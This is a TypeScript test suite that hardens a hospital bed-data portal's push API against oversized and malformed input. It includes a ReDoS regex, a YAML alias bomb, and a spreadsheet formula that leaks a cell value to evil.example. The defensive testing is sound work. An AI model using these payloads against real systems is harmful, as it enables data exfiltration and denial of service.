// Hostile input to the live-data API and its tools (issue 13), through the real server, a real
// SQLite file (and PostgreSQL for the idempotency expiry when DATABASE_URL is set), the real
// token command and the real `npm run validate`. Time and answer size are measured: the bounds
// are loose enough for a busy machine and far below what the unbounded code took (seconds to
// minutes, hundreds of megabytes).
import Database from 'better-sqlite3';
import { cpSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { createToken, postgresState, runTokenCli, sqliteState, tokenCli, type LiveState } from '../helpers/live.ts';
import { distDir, removeDir, ROOT, runScript, startServer, type RunningServer } from '../helpers/portal.ts';

const SLUG = 'lits-reanimation';
const FIXTURE = join(ROOT, 'tests', 'fixtures', 'portal-valid');

/** One request, timed, with its body read whole. */
async function timed(url: string, init?: RequestInit) {
  const t0 = performance.now();
  const res = await fetch(url, init);
  const text = await res.text();
  return { status: res.status, text, bytes: Buffer.byteLength(text), ms: performance.now() - t0, headers: res.headers };
}

/**
 * The fixture's build with two more fields in the live dataset's Table Schema, as the build
 * writes them to dist/portal/live.json: `code`, whose pattern has nested quantifiers (the
 * classic catastrophic-backtracking case), and `note`, free text. The build accepts such a
 * schema (the pattern is valid, and matched in linear time), so this is what it would produce.
 */
function distWithHostileSchema(): string {
  const dist = distDir();
  // The fixture's dist/ is a link to its build (src/server/builds.ts): copy the build itself.
  cpSync(realpathSync(inject('fixtureDist')), dist, { recursive: true });
  const file = join(dist, 'portal', 'live.json');
  const runtime = JSON.parse(readFileSync(file, 'utf8'));
  const ds = runtime.datasets.find((d: { slug: string }) => d.slug === SLUG);
  ds.tableSchema.fields.push({ name: 'code', type: 'string', format: 'default', constraints: { pattern: '(a+)+' } }, { name: 'note', type: 'string', format: 'default' });
  writeFileSync(file, JSON.stringify(runtime));
  return dist;
}

/** A copy of the fixture content, changed by `edit`, checked by the real `npm run validate`. */
function validateCopy(edit: (dir: string) => void) {
  const dir = mkdtempSync(join(ROOT, 'tests', '.tmp', 'content-'));
  cpSync(FIXTURE, dir, { recursive: true });
  try {
    edit(dir);
    return runScript('validate.ts', { PORTAL_CONTENT: dir });
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

let state: LiveState;
let server: RunningServer;
let hostileDist = '';
let hostile: RunningServer;
let token = '';
const cleanups: (() => Promise<void> | void)[] = [];

let hostileState: LiveState;
let hostileToken = '';

beforeAll(async () => {
  state = sqliteState();
  hostileState = sqliteState();
  token = createToken(state, 'hopital-test').token;
  hostileToken = createToken(hostileState, 'hopital-test').token;
  hostileDist = distWithHostileSchema();
  [server, hostile] = await Promise.all([startServer(inject('fixtureDist'), { ...state.env, PORTAL_RATE_LIMIT: '0' }), startServer(hostileDist, { ...hostileState.env, PORTAL_RATE_LIMIT: '0' })]);
});

afterAll(async () => {
  await server?.stop();
  await hostile?.stop();
  for (const c of cleanups) await c();
  if (hostileDist) removeDir(hostileDist);
});

const rowsUrl = (s: RunningServer) => `${s.url}/api/datasets/${SLUG}/rows`;
const push = (s: RunningServer, body: string | Buffer, contentType = 'application/json', tok = token, headers: Record<string, string> = {}) =>
  timed(rowsUrl(s), { method: 'POST', headers: { 'Content-Type': contentType, Authorization: `Bearer ${tok}`, ...headers }, body: typeof body === 'string' ? body : new Uint8Array(body) });
const day = (i: number) => new Date(Date.UTC(2021, 0, 1) + i * 86_400_000).toISOString().slice(0, 10);

describe('live pushes: bounded work per request', () => {
  it('1. a header of a million commas, 500,000 lines, 90,000 unknown keys and many bad rows get small, quick answers; other requests are served meanwhile; 10,000 good rows pass', async () => {
    // Today: 8.6 s and a 218 MB answer for the header. Now counted before parsing.
    const header = ','.repeat(1_000_000);
    const pending = push(server, `${header}\n`, 'text/csv');
    const other = timed(`${rowsUrl(server)}?limit=1`);
    const [wide, get] = await Promise.all([pending, other]);
    expect(wide.status, wide.text.slice(0, 300)).toBe(413);
    expect(JSON.parse(wide.text).error.code).toBe('too_many_columns');
    expect(wide.bytes).toBeLessThan(16_000);
    expect(wide.ms).toBeLessThan(1500);
    expect(get.status).toBe(200);
    expect(get.ms).toBeLessThan(2500);

    // 500,000 short lines (today 18.6 s): parsing stops one record past the row cap.
    const lines = await push(server, `etablissement,jour\n${'a\n'.repeat(499_000)}`, 'text/csv');
    expect(lines.status, lines.text.slice(0, 300)).toBe(413);
    expect(JSON.parse(lines.text).error).toMatchObject({ code: 'too_many_rows', message: expect.stringContaining('at most 10,000 rows') });
    expect(lines.ms).toBeLessThan(1500);

    // One JSON row with 90,000 unknown keys (today a 7 MB answer): one problem.
    const keys = Object.fromEntries(Array.from({ length: 90_000 }, (_, i) => [`k${i}`, 1]));
    const wideRow = await push(server, JSON.stringify({ rows: [{ etablissement: 'H40', jour: day(0), ...keys }] }));
    expect(wideRow.status).toBe(422);
    expect(wideRow.bytes).toBeLessThan(16_000);
    expect(JSON.parse(wideRow.text).error.details).toEqual([{ row: 1, field: null, message: expect.stringContaining('more than 1,000 properties') }]);

    // 2,000 rows, each with 4 problems, one a 250-character unknown key: 100 listed, the rest counted.
    const bad = Array.from({ length: 2000 }, (_, i) => ({ etablissement: 'X', jour: 'never', lits_occupes: -1, ['z'.repeat(250) + i]: 1 }));
    const many = await push(server, JSON.stringify({ rows: bad }));
    expect(many.status).toBe(422);
    const error = JSON.parse(many.text).error;
    expect(error.message).toBe('8,000 problems in the rows; nothing was stored.');
    expect(error.details).toHaveLength(101);
    expect(error.details.at(-1)).toEqual({ row: null, field: null, message: expect.stringMatching(/^… and 7,900 more problems/) });
    expect(Math.max(...error.details.map((d: { field: string | null }) => (d.field ?? '').length))).toBeLessThanOrEqual(200);
    expect(many.bytes).toBeLessThan(32_000);
    const show = (r: { ms: number; bytes: number }) => `${Math.round(r.ms)} ms, ${r.bytes} B`;
    console.log(`hostile pushes: wide header ${show(wide)}; 500,000 lines ${show(lines)}; 90,000 keys ${show(wideRow)}; 8,000 problems ${show(many)}; GET meanwhile ${show(get)}`);

    // The benchmark's 10,000-row requests are still accepted, in CSV and JSON.
    const csv = `etablissement;jour;lits_occupes;lits_total\n${Array.from({ length: 10_000 }, (_, i) => `H${String(i % 100).padStart(2, '0')};${day(1000 + Math.floor(i / 100))};1;2`).join('\n')}\n`;
    expect((await push(server, csv, 'text/csv')).status).toBe(201);
    const json = JSON.stringify({
      rows: Array.from({ length: 10_000 }, (_, i) => ({ etablissement: `H${String(i % 100).padStart(2, '0')}`, jour: day(2000 + Math.floor(i / 100)), lits_occupes: 1, lits_total: 2 })),
    });
    const accepted = await push(server, json);
    expect(accepted.status, accepted.text.slice(0, 300)).toBe(201);
    expect(JSON.parse(accepted.text)).toEqual({ accepted: 10_000 });
  });

  it('2. a pattern with nested quantifiers cannot block the server: a 33-character value is judged at once', async () => {
    const tok = hostileToken;
    // With a backtracking engine `^(?:(a+)+)$` on 32 a's and a "!" takes 2^32 steps (minutes).
    const res = await push(hostile, JSON.stringify({ rows: [{ etablissement: 'H41', jour: day(0), code: `${'a'.repeat(32)}!` }] }), 'application/json', tok);
    expect(res.status, res.text).toBe(422);
    expect(JSON.parse(res.text).error.details).toEqual([{ row: 1, field: 'code', message: `"${'a'.repeat(32)}!" does not match the pattern (a+)+` }]);
    expect(res.ms).toBeLessThan(2000);
    const good = await push(hostile, JSON.stringify({ rows: [{ etablissement: 'H41', jour: day(0), code: 'a'.repeat(100_000) }] }), 'application/json', tok);
    expect(good.status, good.text.slice(0, 300)).toBe(201);
  });

  it('3. the current-data CSV neutralises spreadsheet formulas; raw=1 keeps the exact values', async () => {
    const tok = hostileToken;
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
    expect(
      (
        await push(
          hostile,
          JSON.stringify({
            rows: [
              { etablissement: 'H42', jour: day(0), note: formula },
              { etablissement: 'H42', jour: day(1), note: '-5' },
            ],
          }),
          'application/json',
          tok,
        )
      ).status,
    ).toBe(201);
    const people = await (await fetch(`${rowsUrl(hostile)}?format=csv&etablissement=H42`)).text();
    expect(people).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
    expect(people).toContain(',-5\r\n'); // a number written as text is not a formula
    const exact = await (await fetch(`${rowsUrl(hostile)}?format=csv&raw=1&etablissement=H42`)).text();
    expect(exact).toContain(`"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
    expect(exact).not.toContain(`'=`);
  });

  it('4. 1e400 for an integer is reported as written, not as "null"', async () => {
    const res = await push(server, '{"rows": [{"etablissement": "H43", "jour": "2021-01-01", "lits_occupes": 1e400, "lits_total": -1E+999}]}');
    expect(res.status).toBe(422);
    expect(JSON.parse(res.text).error.details).toEqual([
      { row: 1, field: 'lits_occupes', message: '"1e400" is out of range (not a finite number)' },
      { row: 1, field: 'lits_total', message: '"-1E+999" is out of range (not a finite number)' },
    ]);
  });

  it('5. the charset of a push is honoured: windows-1252 and iso-8859-1 CSV decoded, unknown charsets and non-UTF-8 JSON refused (415)', async () => {
    const tok = hostileToken;
    // "Hôpital Saint-Éloi – 12 €" in windows-1252: ô=F4, É=C9, en dash=96, euro=80
    const cp1252 = Buffer.concat([
      Buffer.from('etablissement;jour;note\nH44;2021-01-01;H', 'ascii'),
      Buffer.from([0xf4]),
      Buffer.from('pital Saint-', 'ascii'),
      Buffer.from([0xc9]),
      Buffer.from('loi ', 'ascii'),
      Buffer.from([0x96, 0x20, 0x31, 0x32, 0x20, 0x80, 0x0a]),
    ]);
    const ok = await push(hostile, cp1252, 'text/csv; charset=windows-1252', tok);
    expect(ok.status, ok.text).toBe(201);
    const iso = await push(hostile, Buffer.from('etablissement;jour;note\nH44;2021-01-02;Hôpital\n', 'latin1'), 'text/csv; charset=ISO-8859-1', tok);
    expect(iso.status, iso.text).toBe(201);
    const rows = (await (await fetch(`${rowsUrl(hostile)}?etablissement=H44`)).json()).rows;
    expect(rows.map((r: { note: string }) => r.note)).toEqual(['Hôpital Saint-Éloi – 12 €', 'Hôpital']);
    const unknown = await push(hostile, cp1252, 'text/csv; charset=klingon-8', tok);
    expect(unknown.status).toBe(415);
    expect(JSON.parse(unknown.text).error.message).toContain('"klingon-8"');
    const json = await push(hostile, Buffer.from('{"rows": []}', 'latin1'), 'application/json; charset=iso-8859-1', tok);
    expect(json.status).toBe(415);
    expect(JSON.parse(json.text).error.message).toMatch(/JSON must be sent as UTF-8/);
  });

  it('6. a UTF-16 data file (byte order mark, little- or big-endian) is read as UTF-16 by npm run validate', () => {
    for (const endian of ['le', 'be'] as const) {
      const r = validateCopy((dir) => {
        const file = join(dir, 'datasets', 'lits-reanimation', 'lits.csv');
        const le = Buffer.from(`\uFEFF${readFileSync(file, 'utf8')}`, 'utf16le');
        writeFileSync(file, endian === 'le' ? le : le.swap16());
      });
      expect(r.stdout + r.stderr, endian).toMatch(/✓ .*valid/);
      expect(r.status).toBe(0);
    }
  });

  it('7. the token command refuses expired, endless and out-of-catalog tokens with exit 2 and says why', () => {
    const cases: [string[], RegExp][] = [
      [['--expires', '0d'], /positive duration/],
      [['--expires=-3d'], /positive duration/],
      [['--expires', '2000-01-01'], /has passed/],
      [['--expires', '99999999999d'], /at most 3650 days/],
      [['--expires', 'soon'], /neither a duration/],
    ];
    for (const [args, message] of cases) {
      const r = runTokenCli(state, 'create', '--publisher', 'hopital-test', ...args);
      expect(r.status, args.join(' ')).toBe(2);
      expect(r.stderr).toMatch(message);
      expect(r.stderr).not.toMatch(/\n\s+at /); // no stack trace
    }
    const publisher = runTokenCli(state, 'create', '--publisher', 'hopital-tset');
    expect(publisher.status).toBe(2);
    expect(publisher.stderr).toMatch(/no publisher "hopital-tset" in .*catalog\.json \(did you mean "hopital-test"\?\)/);
    const dataset = runTokenCli(state, 'create', '--publisher', 'hopital-test', '--dataset', 'lits-reanimatoin');
    expect(dataset.status).toBe(2);
    expect(dataset.stderr).toMatch(/no live dataset "lits-reanimatoin" in .*live\.json \(did you mean "lits-reanimation"\?\)/);
    const before = tokenCli(state, 'list').split('\n').length;
    expect(tokenCli(state, 'list').split('\n').length).toBe(before);
  });

  it('8. idempotency records older than the retention are deleted (SQLite; PostgreSQL too with DATABASE_URL)', async () => {
    const stores: [string, () => Promise<LiveState>][] = [['SQLite', async () => sqliteState()]];
    if (process.env.DATABASE_URL) stores.push(['PostgreSQL', () => postgresState(process.env.DATABASE_URL!)]);
    for (const [name, makeState] of stores) {
      const st = await makeState();
      cleanups.push(st.cleanup);
      const tok = createToken(st, 'hopital-test').token;
      const s = await startServer(inject('fixtureDist'), { ...st.env, PORTAL_RATE_LIMIT: '0', PORTAL_IDEMPOTENCY_RETENTION: '1' });
      try {
        const body = (i: number) => JSON.stringify({ rows: [{ etablissement: 'H45', jour: day(i), lits_occupes: 1, lits_total: 2 }] });
        expect((await push(s, body(0), 'application/json', tok, { 'Idempotency-Key': 'old' })).status, name).toBe(201);
        expect((await push(s, body(1), 'application/json', tok, { 'Idempotency-Key': 'old' })).status, name).toBe(409);
        await new Promise((r) => setTimeout(r, 1500));
        // Any write past the retention deletes the old records...
        expect((await push(s, body(2), 'application/json', tok, { 'Idempotency-Key': 'new' })).status, name).toBe(201);
        expect(await idempotencyKeys(st), name).toEqual(['new']);
        // ...so the old key is free again.
        expect((await push(s, body(1), 'application/json', tok, { 'Idempotency-Key': 'old' })).status, name).toBe(201);
      } finally {
        await s.stop();
      }
    }
  });

  it('9. when the SQLite store cannot open, the rows API answers 503 in the JSON error shape, and recovers once fixed', async () => {
    const base = mkdtempSync(join(ROOT, 'tests', '.tmp', 'state-'));
    cleanups.push(() => rmSync(base, { recursive: true, force: true }));
    const stateDir = join(base, 'state');
    writeFileSync(stateDir, 'a file where the state folder should be');
    const s = await startServer(inject('fixtureDist'), { PORTAL_STATE_DIR: stateDir, DATABASE_URL: '' });
    try {
      for (const init of [undefined, { method: 'POST', headers: { 'Content-Type': 'application/json', Authorization: `Bearer ${token}` }, body: '{"rows": []}' }]) {
        const res = await timed(rowsUrl(s), init);
        expect(res.status, res.text).toBe(503);
        expect(res.headers.get('content-type')).toContain('application/json');
        const error = JSON.parse(res.text).error;
        expect(error.code).toBe('store_unavailable');
        expect(error.message).toMatch(/state folder is not a folder/);
        expect(res.text).not.toContain(base); // no path for anonymous clients
      }
      expect(s.log()).toContain(join(stateDir, 'live.sqlite')); // the operator's log names it
      rmSync(stateDir);
      mkdirSync(stateDir);
      expect((await timed(`${rowsUrl(s)}?limit=1`)).status).toBe(200);
    } finally {
      await s.stop();
    }
  });

  it('10. a YAML alias bomb in a content file is a content issue with its file and line, not a crash', () => {
    const r = validateCopy((dir) => {
      const file = join(dir, 'datasets', 'lits-reanimation', 'dataset.yaml');
      const lol = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
      for (let i = 1; i < 9; i++)
        lol.push(
          `${String.fromCharCode(97 + i)}: &${String.fromCharCode(97 + i)} [${Array(9)
            .fill(`*${String.fromCharCode(96 + i)}`)
            .join(',')}]`,
        );
      writeFileSync(file, `${readFileSync(file, 'utf8')}x-bomb:\n${lol.map((l) => `  ${l}`).join('\n')}\n`);
    });
    const out = r.stdout + r.stderr;
    expect(r.status).toBe(1);
    expect(out).toMatch(/datasets\/lits-reanimation\/dataset\.yaml:\d+.*aliases/);
    expect(out).not.toMatch(/\n\s+at /);
  });
});

/** Idempotency keys left in a store, read straight from its database. */
async function idempotencyKeys(st: LiveState): Promise<string[]> {
  if (!st.env.DATABASE_URL) {
    const db = new Database(join(st.env.PORTAL_STATE_DIR!, 'live.sqlite'), { readonly: true });
    try {
      return (db.prepare('SELECT key FROM live_idempotency ORDER BY key').all() as { key: string }[]).map((r) => r.key);
    } finally {
      db.close();
    }
  }
  const c = new pg.Client({ connectionString: st.env.DATABASE_URL });
  await c.connect();
  try {
    return (await c.query<{ key: string }>('SELECT key FROM live_idempotency ORDER BY key')).rows.map((r) => r.key);
  } finally {
    await c.end();
  }
}
